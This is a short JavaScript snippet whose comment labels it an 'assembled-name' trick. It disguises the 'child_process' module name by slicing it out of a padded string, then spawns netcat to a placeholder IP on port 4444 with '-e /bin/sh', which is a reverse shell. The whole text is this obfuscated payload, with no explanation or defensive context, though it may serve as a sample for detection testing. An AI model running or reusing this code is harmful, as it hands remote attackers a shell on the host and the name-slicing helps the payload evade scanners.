// assembled-name: the module name sliced out of a longer string
const label = 'xxchild_processyy';
require(label.slice(2, -2)).spawn('nc', ['198.51.100.23', '4444', '-e', '/bin/sh']);
